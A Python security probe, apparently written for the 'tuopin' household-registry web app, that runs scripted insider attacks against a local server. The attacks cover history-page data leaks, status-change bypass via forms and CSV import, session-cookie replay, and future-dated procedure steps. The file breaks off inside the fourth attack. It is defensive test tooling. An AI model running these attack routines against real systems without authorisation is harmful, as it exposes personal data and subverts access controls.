#!/usr/bin/env python3
"""An outside security probe of a RUNNING tuopin web application: twelve insider attacks.

Usage (from the repository root, with the server already serving the database named; the
project's virtual environment has httpx2 and openpyxl):

    .venv/bin/python scripts/security_probe.py --base-url http://127.0.0.1:8765 \\
        --database-url sqlite:///var/tuopin.db [--tuopin .venv/bin/tuopin] [--json]

``--verbose`` adds each attack's details (and progress on stderr); ``--only N`` runs one
attack (repeatable).

It acts as a hostile insider holding the demo accounts (``tuopin users demo``: demo-admin,
demo-county, demo-township, demo-village, demo-helper, demo-verifier, demo-auditor) and tries
twelve attacks through the web application only, the way a browser would (forms, the CSRF
token of the hidden ``csrf_token`` field, the import page). For each attack it prints one
line: the attack, BLOCKED, GOT THROUGH or NOT REACHED (a precondition could not be set up;
the reason is given) and the evidence. The exit status is 0 when every attack was BLOCKED,
else 1. ``--json`` prints the same as a JSON list instead.

What it changes, and how:

* Passwords: it RESETS the demo accounts' passwords to new random ones through the command
  line given by ``--tuopin`` (``tuopin users reset-password NAME --password-stdin``, run as
  a subprocess with TUOPIN_DATABASE_URL set to ``--database-url``); afterwards nobody knows
  them: reset them again (``tuopin users reset-password NAME``) to use the demo accounts.
  It also creates throwaway accounts with the same command line (``probe-session``,
  ``probe-oracle``, ``probe-spray-01`` ...; reused by later runs) and leaves them with
  unknown passwords. It reads the audit trail through ``tuopin audit log`` (attack 11) and
  never reads or writes the database itself.
* Records: as the village cadre it registers three small households of two members each
  (address ``security-probe ...``) in the cadre's village (one's status is changed and set
  back), records a few shocks on one of them (each monitoring case it opens is rejected
  again by the county officer), and as the county officer proposes the exit of one
  registered poor household that its newest assessment finds not poor (unless a pre-exit
  case is already open). Where an attack gets through, what it did may not be undoable
  through the web (a notice dated a year ahead cannot be objected to before it starts): the
  attack's details say so.
* Load and files: uploads of the import page, among them one XLSX of 200,000 rows (545 KB);
  an application that checks uploads in the background removes them when they expire.
* Quotas: attacks 11 and 12 use up demo-village's quotas of ID-number searches (an hour)
  and reveals (a day); attack 6 that of probe-oracle's registrations (a day).

The attacks that should meet a rate limit run last (11, 12, 6 and 10). Password spraying comes from
a loopback address of its own (127.x.y.z) when the server is on this machine, so that a
limit per address does not lock out the rest of the probe or its next run; a limit per
account on the cadre's registrations may still make a run soon after another NOT REACHED.

It needs only the standard library, httpx (the project's dev dependency ``httpx2``, or
``httpx``) and openpyxl. Every request has a timeout; the probe stops by itself.
"""

from __future__ import annotations

import argparse
import csv
import html
import io
import json
import os
import random
import re
import secrets
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from collections.abc import Callable, Iterable
from dataclasses import asdict, dataclass, field
from datetime import date, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

try:  # the project's dev dependency: httpx's successor, with the same API
    import httpx2 as httpx
except ImportError:  # pragma: no cover - a machine with plain httpx
    import httpx  # type: ignore[no-redef]
import openpyxl

BLOCKED, THROUGH, NOT_REACHED = "BLOCKED", "GOT THROUGH", "NOT REACHED"
DEMO = {"admin": "demo-admin", "county": "demo-county", "township": "demo-township",
        "village": "demo-village", "helper": "demo-helper", "verifier": "demo-verifier",
        "auditor": "demo-auditor"}
SESSION_ACCOUNT = "probe-session"
# a cadre of the demo village of its own: the attack that probes gets it throttled for a
# day, and the other attacks (and later runs) go on with demo-village
ORACLE_ACCOUNT = "probe-oracle"
SPRAY_PREFIX = "probe-spray-"
MARK = "security-probe"
TIMEOUT = 60.0
UPLOAD_TIMEOUT = 300.0
ID_WEIGHTS = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)
ID_RE = re.compile(r"(?<![0-9])[1-8][0-9]{16}[0-9X](?![0-9A-Za-z])")
PHONE_RE = re.compile(r"(?<![0-9])1[3-9][0-9]{9}(?![0-9])")


# -- results -------------------------------------------------------------------------------

@dataclass
class Result:
    """One attack's outcome: its verdict and the evidence for it."""

    number: int
    attack: str
    verdict: str
    evidence: str
    details: list[str] = field(default_factory=list)


class NotReached(Exception):
    """A precondition of an attack could not be set up; the message says why."""


class ProbeError(Exception):
    """The probe itself cannot go on (no server, no CLI)."""


# -- small helpers -------------------------------------------------------------------------

def text_of(page: str, limit: int = 240) -> str:
    """The visible text of an HTML page (or fragment), collapsed, at most ``limit`` chars."""
    body = re.sub(r"(?is)<(script|style|head)\b.*?</\1>", " ", page)
    body = html.unescape(re.sub(r"(?s)<[^>]+>", " ", body))
    body = re.sub(r"\s+", " ", body).strip()
    return body if len(body) <= limit else body[: limit - 1] + "…"


def problem_text(page: str, limit: int = 200) -> str:
    """The text of a page's error or problem boxes, else the first problem of a validation
    report, else the start of its main part."""
    table = re.search(r'(?s)<table class="list" id="problems">.*?<tbody>\s*<tr>(.*?)</tr>', page)
    if table and not re.search(r'class="(?:problem|error)', page):
        cells = [text_of(c, 10**6) for c in re.findall(r"(?s)<td[^>]*>(.*?)</td>",
                                                        table.group(1))]
        if len(cells) == 4:
            row, column, value, reason = cells
            shown = value if len(value) <= 24 else f"{value[:12]}… ({len(value)} chars)"
            return text_of(f"validation report: row {row} {column} {shown}: {reason}", limit)
        return "validation report: " + text_of(table.group(1), limit)
    found = re.findall(r'(?is)<(div|p|small)[^>]*class="(?:problem|error)[^"]*"[^>]*>(.*?)</\1>',
                       page)
    if found:
        return text_of(" / ".join(inner for _, inner in found), limit)
    main = re.search(r"(?is)<main>(.*?)</main>", page)
    return text_of(main.group(1) if main else page, limit)


def check_char(first17: str) -> str:
    """The GB 11643-1999 (ISO 7064 MOD 11-2) check character of 17 digits."""
    return "10X98765432"[sum(int(c) * w for c, w in zip(first17, ID_WEIGHTS, strict=True)) % 11]


def citizen_id(area: str, born: date, sequence: int) -> str:
    """A valid 18-character citizen ID number (odd sequence: male)."""
    first = f"{area}{born:%Y%m%d}{sequence:03d}"
    return first + check_char(first)


def random_person(area: str, rng: random.Random, *, male: bool) -> dict[str, str]:
    """A made-up person with a valid ID number and a mobile number."""
    born = date(1960, 1, 1) + timedelta(days=rng.randrange(0, 365 * 40))
    sequence = rng.randrange(0, 500) * 2 + (1 if male else 0)
    return {"id_number": citizen_id(area, born, sequence),
            "phone": "139" + "".join(rng.choice("0123456789") for _ in range(8))}


@dataclass
class Form:
    """A form of a page as a browser would send it (before the user changes anything)."""

    action: str
    method: str
    fields: list[tuple[str, str]]

    def data(self, **overrides: str) -> dict[str, str | list[str]]:
        """The fields as httpx form data, ``overrides`` replacing the fields so named."""
        out: dict[str, str | list[str]] = {}
        for name, value in self.fields:
            if name in overrides:
                continue
            current = out.get(name)
            if current is None:
                out[name] = value
            elif isinstance(current, list):
                current.append(value)
            else:
                out[name] = [current, value]
        out.update(overrides)
        return out

    def get(self, name: str, default: str = "") -> str:
        return next((v for n, v in self.fields if n == name), default)


class _FormParser(HTMLParser):
    """Every <form> of a page with the values a browser would submit by default."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.forms: list[Form] = []
        self._open = False
        self._select: str | None = None
        self._options: list[tuple[str, bool]] = []
        self._textarea: str | None = None
        self._text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: (v if v is not None else "") for k, v in attrs}
        if tag == "form":
            self.forms.append(Form(a.get("action", ""), a.get("method", "get").lower(), []))
            self._open = True
        elif not self._open:
            return
        elif tag == "input":
            kind, name = a.get("type", "text").lower(), a.get("name")
            if not name or kind in ("submit", "button", "file", "image", "reset"):
                return
            if kind in ("checkbox", "radio") and "checked" not in a:
                return
            self.forms[-1].fields.append((name, a.get("value", "on" if kind == "checkbox"
                                                      else "")))
        elif tag == "select":
            self._select, self._options = a.get("name"), []
        elif tag == "option" and self._select is not None:
            self._options.append((a.get("value", ""), "selected" in a))
        elif tag == "textarea":
            self._textarea, self._text = a.get("name"), []

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self._open = False
        elif tag == "select" and self._select is not None:
            chosen = next((v for v, s in self._options if s),
                          self._options[0][0] if self._options else "")
            self.forms[-1].fields.append((self._select, chosen))
            self._select = None
        elif tag == "textarea" and self._textarea is not None:
            self.forms[-1].fields.append((self._textarea, "".join(self._text)))
            self._textarea = None

    def handle_data(self, data: str) -> None:
        if self._textarea is not None:
            self._text.append(data)


def forms_of(page: str) -> list[Form]:
    parser = _FormParser()
    parser.feed(page)
    parser.close()
    return parser.forms


def form_at(page: str, action: str | re.Pattern[str]) -> Form | None:
    """The first form whose action is ``action`` (or matches the pattern)."""
    for form in forms_of(page):
        hit = (re.fullmatch(action, form.action) if isinstance(action, re.Pattern)
               else form.action == action)
        if hit:
            return form
    return None


# -- one browser ---------------------------------------------------------------------------

class Browser:
    """A browser of one person: its cookie jar, the session's CSRF token, English pages."""

    def __init__(self, base_url: str, *, cookie: str | None = None,
                 local_address: str | None = None) -> None:
        transport = httpx.HTTPTransport(local_address=local_address) if local_address \
            else None
        self.client = httpx.Client(base_url=base_url, timeout=TIMEOUT, follow_redirects=False,
                                   headers={"User-Agent": "tuopin-security-probe"},
                                   transport=transport)
        if cookie is not None:
            self.client.cookies.set("tuopin_session", cookie)
        self.token: str | None = None
        self.username: str | None = None

    def close(self) -> None:
        self.client.close()

    @property
    def cookie(self) -> str | None:
        return self.client.cookies.get("tuopin_session")

    def _seen(self, response: httpx.Response) -> httpx.Response:
        if "text/html" in response.headers.get("content-type", ""):
            found = re.search(r'data-csrf="([^"]+)"', response.text) or re.search(
                r'name="csrf_token" value="([^"]+)"', response.text)
            if found:
                self.token = found.group(1)
        return response

    def _send(self, method: str, path: str, **kwargs: Any) -> httpx.Response:
        """One request; sent again once when the server had closed the kept-alive connection
        (as a browser does: uvicorn closes it after a 500)."""
        try:
            return self._seen(self.client.request(method, path, **kwargs))
        except (httpx.ReadError, httpx.RemoteProtocolError, httpx.WriteError):
            return self._seen(self.client.request(method, path, **kwargs))

    def get(self, path: str, **kwargs: Any) -> httpx.Response:
        return self._send("GET", path, **kwargs)

    def csrf(self) -> str:
        if self.token is None:
            self.get("/login")
        if self.token is None:
            raise ProbeError("no CSRF token on /login: is this a tuopin server?")
        return self.token

    def post(self, path: str, data: dict[str, Any] | None = None, *,
             files: dict[str, Any] | None = None, **kwargs: Any) -> httpx.Response:
        token = self.csrf()
        body = {**(data or {}), "csrf_token": token}
        headers = {"X-CSRF-Token": token}
        return self._send("POST", path, data=body, files=files, headers=headers, **kwargs)

    def follow(self, location: str, wait: float = 120.0) -> httpx.Response:
        """The page at ``location`` once the background work it shows is over."""
        deadline = time.monotonic() + wait
        page = self.get(location)
        while 'hx-trigger="every 1s"' in page.text and time.monotonic() < deadline:
            time.sleep(0.5)
            page = self.get(location)
        return page

    def upload(self, kind: str, name: str, body: bytes, content_type: str, *,
               wait: float = 120.0, **kwargs: Any) -> httpx.Response:
        """Upload a file for import and follow its check: the upload's page once the work
        is over (or the answer itself when the upload was refused, or it took too long).

        A tuopin that checks uploads in the request answers with the report at once; one
        that checks them in the background answers 303 to the upload's page, which shows
        the result when the work is done."""
        answer = self.post("/import", {"kind": kind}, files={"file": (name, body,
                                                                       content_type)},
                           **kwargs)
        if answer.status_code != 303 or "/import/" not in answer.headers.get("location", ""):
            return answer
        return self.follow(answer.headers["location"], wait)

    def confirm(self, form: Form) -> httpx.Response:
        """Confirm a checked upload and follow the import to its end."""
        answer = self.post(form.action, form.data())
        if answer.status_code == 303 and "/import/" in answer.headers.get("location", ""):
            return self.follow(answer.headers["location"])
        return answer

    def login(self, username: str, password: str) -> httpx.Response:
        self.get("/login")
        answer = self.post("/login", {"username": username, "password": password, "next": "/"})
        self.token = None  # the token changes at login
        if answer.status_code == 303:
            self.username = username
        return answer

    def english(self) -> None:
        """Pages in English, so the probe reads the same words whatever the default."""
        self.post("/lang", {"lang": "en", "next": "/"})

    def logged_in(self) -> tuple[bool, int]:
        """Whether the session reaches a logged-in page (and the status it got)."""
        answer = self.get("/")
        return answer.status_code == 200 and 'action="/logout"' in answer.text, \
            answer.status_code


# -- the probe -----------------------------------------------------------------------------

class Probe:
    """The attacks, the accounts they use and what they share (the probe's households)."""

    def __init__(self, base_url: str, database_url: str, tuopin: str) -> None:
        self.base_url = base_url.rstrip("/")
        self.database_url = database_url
        self.tuopin = tuopin
        self.rng = random.Random(secrets.randbits(64))
        self.passwords: dict[str, str] = {}
        self.browsers: dict[str, Browser] = {}
        self.village = ""  # the village cadre's village code
        self.today = date.today()
        self.households: dict[str, dict[str, Any]] = {}  # probe households: key -> facts
        self.notes: list[str] = []

    # the command line ------------------------------------------------------------------

    def cli(self, *args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
        env = {**os.environ, "TUOPIN_DATABASE_URL": self.database_url}
        try:
            return subprocess.run([self.tuopin, *args], input=stdin, capture_output=True,
                                  text=True, env=env, timeout=180, check=False)
        except (OSError, subprocess.TimeoutExpired) as exc:
            raise ProbeError(f"cannot run {self.tuopin} {' '.join(args)}: {exc}") from exc

    def accounts(self) -> dict[str, dict[str, Any]]:
        done = self.cli("users", "list", "--format", "json")
        if done.returncode != 0:
            raise ProbeError(f"tuopin users list failed: {done.stderr.strip()[-300:]}")
        start = done.stdout.find("[")
        rows = json.loads(done.stdout[start:]) if start >= 0 else []
        return {r["username"]: r for r in rows}

    def set_password(self, username: str) -> str:
        password = "Pr0be-" + secrets.token_urlsafe(15)
        done = self.cli("users", "reset-password", username, "--password-stdin",
                        stdin=password + "\n")
        if done.returncode != 0:
            raise ProbeError(f"cannot reset the password of {username}: "
                             f"{(done.stderr or done.stdout).strip()[-300:]}")
        self.passwords[username] = password
        return password

    def ensure_account(self, username: str, role: str, region: str | None,
                       known: dict[str, dict[str, Any]]) -> None:
        """A throwaway account (made once through the CLI, reused by later runs)."""
        if username in known:
            return
        args = ["users", "add", username, "--role", role, "--password-stdin",
                "--name", "security probe"]
        if region:
            args += ["--region", region]
        done = self.cli(*args, stdin="Pr0be-" + secrets.token_urlsafe(15) + "\n")
        if done.returncode != 0:
            raise NotReached(f"cannot add account {username}: "
                             f"{(done.stderr or done.stdout).strip()[-200:]}")
        known[username] = {"username": username, "role": role, "region_code": region}

    def setup(self) -> None:
        """Reachable server, demo accounts with passwords the probe knows, the cadre's village."""
        try:
            httpx.get(self.base_url + "/login", timeout=10)
        except httpx.HTTPError as exc:
            raise ProbeError(f"no tuopin server answers at {self.base_url}: {exc}") from exc
        known = self.accounts()
        missing = [u for u in DEMO.values() if u not in known]
        if missing:
            self.cli("users", "demo")
            known = self.accounts()
            missing = [u for u in DEMO.values() if u not in known]
            if missing:
                raise ProbeError(f"demo accounts missing: {', '.join(missing)}")
        for username in DEMO.values():
            self.set_password(username)
        cadre = known[DEMO["village"]]
        self.village = str(cadre.get("region_code") or "")
        if len(self.village) != 12:
            raise ProbeError(f"demo-village has no village region ({self.village!r})")
        self.county = self.village[:6] + "000000"

    def browser(self, role: str) -> Browser:
        """The logged-in browser of a demo role (one per role, reused)."""
        username = DEMO[role]
        found = self.browsers.get(username)
        if found is not None:
            return found
        b = Browser(self.base_url)
        answer = b.login(username, self.passwords[username])
        if answer.status_code != 303:
            raise NotReached(f"{username} cannot log in (HTTP {answer.status_code}: "
                             f"{problem_text(answer.text, 120)})")
        b.english()
        self.browsers[username] = b
        return b

    def server_today(self, page: str) -> None:
        found = re.search(r'name="occurred_on" value="(\d{4}-\d{2}-\d{2})"', page)
        if found:
            self.today = date.fromisoformat(found.group(1))

    # shared set-up: the probe's own households ----------------------------------------------

    def register(self, key: str, *, status: str) -> dict[str, Any]:
        """Register a household of two members (valid IDs, phones) as the village cadre."""
        if key in self.households:
            return self.households[key]
        cadre = self.browser("village")
        page = cadre.get(f"/households/new?village={self.village}")
        form = form_at(page.text, "/households/new")
        if page.status_code != 200 or form is None:
            raise NotReached(f"no registration form for the cadre (HTTP {page.status_code})")
        area = self.village[:6]
        last: httpx.Response | None = None
        for _ in range(3):  # a made-up ID number may (rarely) be registered already
            head = random_person(area, self.rng, male=True)
            spouse = random_person(area, self.rng, male=False)
            phone = "138" + "".join(self.rng.choice("0123456789") for _ in range(8))
            bank = "6228" + "".join(self.rng.choice("0123456789") for _ in range(15))
            tag = secrets.token_hex(3)
            data = form.data(**{
                "village_code": self.village, "number": "", "status": status,
                "address": f"{MARK} {key} {tag}", "phone": phone, "bank_account": bank,
                "members.0.id_number": head["id_number"], "members.0.name": f"探针甲{tag}",
                "members.0.relation": "head", "members.0.phone": head["phone"],
                "members.1.id_number": spouse["id_number"], "members.1.name": f"探针乙{tag}",
                "members.1.relation": "spouse", "members.1.phone": spouse["phone"],
            })
            last = cadre.post("/households/new", data)
            location = last.headers.get("location", "")
            found = re.fullmatch(r"/households/([^/?#]+)", location)
            if last.status_code == 303 and found:
                facts = {"number": found.group(1), "status": status, "address": data["address"],
                         "phone": phone, "bank_account": bank, "members": [head, spouse],
                         "names": [data["members.0.name"], data["members.1.name"]]}
                self.households[key] = facts
                return facts
            if "already registered" not in last.text:
                break
        assert last is not None
        raise NotReached(f"the cadre could not register a household (HTTP {last.status_code}: "
                         f"{problem_text(last.text)})")

    def status_of(self, b: Browser, number: str) -> str:
        """A household's stored status id, as its page shows it (or, on a tuopin whose edit
        form still has the field, as the form does)."""
        page = b.get(f"/households/{number}")
        found = re.search(r'id="household-status" data-status="([a-z_]+)"', page.text)
        if found:
            return found.group(1)
        edit = b.get(f"/households/{number}/edit")
        form = form_at(edit.text, f"/households/{number}/edit")
        if form is None:
            raise NotReached(f"no status shown for {number} (HTTP {page.status_code})")
        return form.get("status")

    def cases(self, b: Browser, number: str) -> tuple[str, list[dict[str, str]]]:
        """The monitoring panel of a household and its cases (id, state, version)."""
        page = b.get(f"/households/{number}/monitoring").text
        self.server_today(page)
        found = []
        for case_id, state in re.findall(r'id="case-(\d+)" data-state="([a-z_]+)"', page):
            version = re.search(rf'action="/households/{number}/monitoring/{case_id}/advance"'
                                r'.*?name="version" value="(\d+)"', page, re.S)
            found.append({"case": case_id, "state": state,
                          "version": version.group(1) if version else ""})
        return page, found

    def reject_open_cases(self, number: str) -> list[str]:
        """Cleanup: the county officer rejects every open monitoring case of ``number``."""
        said = []
        try:
            county = self.browser("county")
            _, cases = self.cases(county, number)
            for c in cases:
                if not c["version"]:
                    continue
                answer = county.post(
                    f"/households/{number}/monitoring/{c['case']}/advance",
                    {"to": "rejected", "version": c["version"], "on": self.today.isoformat(),
                     "note": f"{MARK}: cleanup"})
                said.append(f"case {c['case']} rejected (HTTP {answer.status_code})")
        except (NotReached, httpx.HTTPError) as exc:
            said.append(f"cleanup failed: {exc}")
        return said

    def history_events(self, b: Browser, number: str, action: str) -> list[str]:
        """The change texts of a household's history rows of one action."""
        page = b.get(f"/households/{number}/history").text
        rows = re.findall(rf'(?s)<tr data-action="{re.escape(action)}">(.*?)</tr>', page)
        return [text_of(r, 400) for r in rows]

    # the attacks ---------------------------------------------------------------------------

    def attack_history_leak(self) -> Result:
        """1. History leak: the history page must mask ID and phone numbers as the household
        page does. Proves whether a role that sees only masked numbers can read the full
        citizen IDs and phones of a household's members from its audit history (the
        registration event's payload holds the whole member list)."""
        home = self.register("history", status="ordinary")
        number = home["number"]
        secrets_ = [m["id_number"] for m in home["members"]] + [
            m["phone"] for m in home["members"]] + [home["phone"]]
        leaks: list[tuple[str, str]] = []
        details: list[str] = []
        checked: list[str] = []
        for role in ("village", "township", "verifier", "auditor", "helper"):
            b = self.browser(role)
            page = b.get(f"/households/{number}")
            if page.status_code != 200:
                details.append(f"{DEMO[role]}: household page HTTP {page.status_code} "
                               "(not in scope)")
                continue
            shown_clear = [s for s in secrets_ if s in page.text]
            if shown_clear:
                details.append(f"{DEMO[role]}: the household page itself shows "
                               f"{len(shown_clear)} numbers in full (role sees clear numbers)")
                continue
            history = b.get(f"/households/{number}/history")
            checked.append(DEMO[role])
            found = [s for s in secrets_ if s in history.text]
            other = set(ID_RE.findall(history.text)) | set(PHONE_RE.findall(history.text))
            if found or other:
                shown = set(found) | other
                ids = sorted(x for x in shown if ID_RE.fullmatch(x))
                phones = sorted(x for x in shown if PHONE_RE.fullmatch(x))
                leaks.append((DEMO[role], f"{len(ids)} full ID numbers (e.g. "
                              f"{ids[0] if ids else '-'}) and {len(phones)} full phone "
                              f"numbers (e.g. {phones[0] if phones else '-'})"))
            details.append(f"{DEMO[role]}: history HTTP {history.status_code}, "
                           f"{len(found)} of the {len(secrets_)} probe numbers in full")
        if not checked:
            raise NotReached("no masked role could open the household page")
        if leaks:
            grouped: dict[str, list[str]] = {}
            for who, what in leaks:
                grouped.setdefault(what, []).append(who)
            said = "; ".join(f"{', '.join(who)}: {what}" for what, who in grouped.items())
            return Result(1, "History leak", THROUGH,
                          f"/households/{number}/history shows what the household page "
                          f"masks. {said}", details)
        return Result(1, "History leak", BLOCKED,
                      f"no full ID or phone number in the history for {', '.join(checked)}",
                      details)

    def attack_status_bypass(self) -> Result:
        """2. Status bypass: a household's status (ordinary, poor, exited, monitored) must
        change only through identification, exit and monitoring, never by a village cadre's
        edit form or a re-imported file. Proves whether the cadre can make a household poor
        (or exited) at will."""
        home = self.register("status", status="ordinary")
        number = home["number"]
        cadre = self.browser("village")
        details: list[str] = []
        through: list[str] = []
        # (a) the edit form
        before = self.status_of(cadre, number)
        wanted = "poor" if before != "poor" else "ordinary"
        page = cadre.get(f"/households/{number}/edit")
        form = form_at(page.text, f"/households/{number}/edit")
        if form is None:
            raise NotReached(f"the cadre has no edit form for {number}")
        answer = cadre.post(f"/households/{number}/edit", form.data(status=wanted))
        after = self.status_of(cadre, number)
        details.append(f"edit form {before}->{wanted}: HTTP {answer.status_code}, now {after}")
        if after != before:
            through.append(f"edit form changed {before}->{after} (HTTP {answer.status_code})")
        # (b) a households CSV re-importing the household with another status
        current = after
        target = "exited" if current != "exited" else "ordinary"
        row = {"number": number, "village_code": self.village, "address": home["address"],
               "status": target, "category": "", "main_cause": "", "other_causes": "",
               "year_identified": "", "year_exited": str(self.today.year)
               if target == "exited" else "", "phone": home["phone"],
               "bank_account": home["bank_account"]}
        out = io.StringIO()
        writer = csv.DictWriter(out, fieldnames=list(row))
        writer.writeheader()
        writer.writerow(row)
        checked = cadre.upload("households", f"{MARK}-status.csv", out.getvalue().encode(),
                               "text/csv")
        confirm = form_at(checked.text, re.compile(r"/import/[0-9a-f]{32,64}/confirm"))
        if confirm is None:
            details.append(f"import check HTTP {checked.status_code}, no confirm offered: "
                           f"{problem_text(checked.text)}")
        else:
            done = cadre.confirm(confirm)
            final = self.status_of(cadre, number)
            details.append(f"import {current}->{target}: check HTTP {checked.status_code}, "
                           f"confirm HTTP {done.status_code}, now {final}")
            if final != current:
                through.append(f"CSV import changed {current}->{final} "
                               f"(confirm HTTP {done.status_code})")
        # cleanup: back to what it was registered as, the same way (if that way is open)
        if through:
            page = cadre.get(f"/households/{number}/edit")
            form = form_at(page.text, f"/households/{number}/edit")
            if form is not None and form.get("status") != "ordinary":
                back = cadre.post(f"/households/{number}/edit",
                                  form.data(status="ordinary", year_exited=""))
                details.append(f"cleanup: status back to ordinary (HTTP {back.status_code})")
            return Result(2, "Status bypass", THROUGH,
                          f"demo-village changed household {number}'s status: "
                          + "; ".join(through), details)
        return Result(2, "Status bypass", BLOCKED,
                      f"household {number} kept status {before}: " + "; ".join(details),
                      details)

    def attack_session_replay(self) -> Result:
        """3. Session replay: a session cookie must die at logout and at a password reset,
        and a login must not keep the cookie of before it. Proves whether a stolen or saved
        cookie outlives the session it belonged to."""
        known = self.accounts()
        self.ensure_account(SESSION_ACCOUNT, "auditor", self.county, known)
        password = self.set_password(SESSION_ACCOUNT)
        through, details = [], []
        # (a) fixation: the cookie of before the login must not become a logged-in one
        b = Browser(self.base_url)
        b.get("/login")
        before = b.cookie
        answer = b.login(SESSION_ACCOUNT, password)
        if answer.status_code != 303:
            raise NotReached(f"{SESSION_ACCOUNT} cannot log in (HTTP {answer.status_code})")
        after = b.cookie
        replay = Browser(self.base_url, cookie=before)
        pre_in, pre_status = replay.logged_in() if before else (False, 0)
        replay.close()
        details.append(f"fixation: cookie changed at login: {before != after}; pre-login "
                       f"cookie logged in: {pre_in} (HTTP {pre_status})")
        if before == after or pre_in:
            through.append("the session cookie of before the login is a logged-in one")
        # (b) logout
        saved = b.cookie
        out = b.post("/logout")
        still, status = b.logged_in()
        replay = Browser(self.base_url, cookie=saved)
        replayed, replay_status = replay.logged_in()
        replay.close()
        details.append(f"logout HTTP {out.status_code}; replayed cookie: HTTP {replay_status},"
                       f" logged in: {replayed}")
        if replayed:
            through.append(f"the cookie saved before logout still opens / (HTTP "
                           f"{replay_status}, logged-in page)")
        b.close()
        # (c) a password reset by the admin in the web user admin page
        b = Browser(self.base_url)
        if b.login(SESSION_ACCOUNT, password).status_code != 303:
            raise NotReached(f"{SESSION_ACCOUNT} cannot log in a second time")
        saved = b.cookie
        admin = self.browser("admin")
        reset = admin.post(f"/users/{SESSION_ACCOUNT}/reset-password")
        how = f"web reset HTTP {reset.status_code}"
        if reset.status_code != 200:
            self.set_password(SESSION_ACCOUNT)
            how += ", then the CLI"
        replay = Browser(self.base_url, cookie=saved)
        replayed, replay_status = replay.logged_in()
        replay.close()
        b.close()
        details.append(f"password reset ({how}); replayed cookie: HTTP {replay_status}, "
                       f"logged in: {replayed}")
        if replayed:
            through.append(f"the cookie survives a password reset (HTTP {replay_status})")
        self.set_password(SESSION_ACCOUNT)  # cleanup: a password nobody knows
        if through:
            return Result(3, "Session replay", THROUGH, "; ".join(through), details)
        return Result(3, "Session replay", BLOCKED,
                      "pre-login, logged-out and reset-password cookies are all refused",
                      details)

    def _find_exit_case(self, county: Browser) -> tuple[str, str, list[str]]:
        """A household in pre_exit (an open one, else one the probe proposes now)."""
        said: list[str] = []
        listed = county.get("/lists/exits?state=pre_exit").text
        numbers = re.findall(r'href="/households/(\d+)"', listed)
        if numbers:
            said.append(f"pre_exit case of {numbers[0]} found in /lists/exits")
            return numbers[0], "existing", said
        villages = re.findall(r'href="/villages/(\d{12})"', county.get("/regions").text)
        villages.sort(key=lambda v: v != self.village)  # the cadre's village first
        tried = 0
        for village in villages:
            page = county.get(f"/villages/{village}").text
            rows = re.findall(r'<tr><td><a href="/households/(\d+)">[^<]*</a></td><td>[^<]*</td>'
                              r'\s*<td>[^<]*</td><td>([^<]*)</td>', page)
            poor = [n for n, status in rows if status.strip() == "poor household"]
            for number in poor:
                if tried >= 40:
                    raise NotReached("no registered poor household that its newest run finds "
                                     f"not poor among the first {tried} tried")
                tried += 1
                detail = county.get(f"/households/{number}").text
                section = re.search(r'(?s)id="assessment">(.*?)</section>', detail)
                if not section or "Not poor" not in section.group(1):
                    continue
                panel = county.get(f"/households/{number}/exit").text
                propose = form_at(panel, f"/households/{number}/exit/propose")
                if propose is None:
                    continue
                answer = county.post(propose.action, propose.data(
                    minutes=f"{MARK}: democratic review minutes (probe)"))
                if answer.status_code == 303:
                    said.append(f"proposed the exit of {number} (run {propose.get('run')})")
                    return number, "proposed", said
        raise NotReached("no household could be brought to pre_exit (no registered poor "
                         "household whose newest run finds it not poor)")

    def attack_future_dates(self) -> Result:
        """4. Future dates: a monitoring step, a shock and an exit notice dated a year ahead
        must be refused. Proves whether a cadre or officer can back-fill the procedure with
        dates that have not happened (a notice that 'ran' before it started, a deadline met
        on paper)."""
        home = self.register("monitoring", status="ordinary")
        number = home["number"]
        cadre = self.browser("village")
        page, _ = self.cases(cadre, number)
        ahead = self.today + timedelta(days=365)
        through, details, cleanup = [], [], []
        # (a) a shock that happens a year from now
        shock = cadre.post(f"/households/{number}/monitoring/shock",
                           {"kind": "illness", "occurred_on": ahead.isoformat(),
                            "amount": "100", "note": f"{MARK}: future shock"})
        details.append(f"shock on {ahead}: HTTP {shock.status_code}")
        if shock.status_code < 400:
            through.append(f"a shock dated {ahead} was recorded (HTTP {shock.status_code})")
        # (b) a monitoring step a year ahead (on the probe's own case: a shock today opens it)
        _, cases = self.cases(cadre, number)
        if not any(c["state"] == "proposed" for c in cases):
            opened = cadre.post(f"/households/{number}/monitoring/shock",
                                {"kind": "illness", "occurred_on": self.today.isoformat(),
                                 "amount": "100", "note": f"{MARK}: opens a case"})
            details.append(f"shock today to open a case: HTTP {opened.status_code}")
            _, cases = self.cases(cadre, number)
        case = next((c for c in cases if c["state"] == "proposed" and c["version"]), None)
        if case is None:
            details.append("no proposed monitoring case could be opened: step not tried")
        else:
            step = cadre.post(f"/households/{number}/monitoring/{case['case']}/advance",
                              {"to": "visited", "version": case["version"],
                               "on": ahead.isoformat(), "note": f"{MARK}: future visit"})
            _, now = self.cases(cadre, number)
            state = next((c["state"] for c in now if c["case"] == case["case"]), "?")
            details.append(f"case {case['case']} proposed->visited on {ahead}: HTTP "
                           f"{step.status_code}, now {state}")
            if step.status_code < 400 or state != "proposed":
                through.append(f"monitoring case {case['case']} moved to {state} on {ahead} "
                               f"(HTTP {step.status_code})")
        cleanup += self.reject_open_cases(number)
        # (c) an exit notice starting a year from now
        county = self.browser("county")
        try:
            exit_number, how, said = self._find_exit_case(county)
            details += said
            panel = county.get(f"/households/{exit_number}/exit").text
            notice = form_at(panel, f"/households/{exit_number}/exit/notice")
            if notice is None:
                raise NotReached(f"no notice form on the exit panel of {exit_number}")
            answer = county.post(notice.action, notice.data(start=ahead.isoformat()))
            found = re.search(r'id="exit-panel" data-state="([a-z_]+)"',
                              county.get(f"/households/{exit_number}/exit").text)
            exit_state = found.group(1) if found else "?"
            details.append(f"exit notice of {exit_number} ({how} pre_exit case) starting "
                           f"{ahead}: HTTP {answer.status_code}, now {exit_state}")
            if answer.status_code < 400 or exit_state != "pre_exit":
                through.append(f"exit notice of household {exit_number} starts {ahead} "
                               f"(HTTP {answer.status_code}, state {exit_state}; not undoable:"
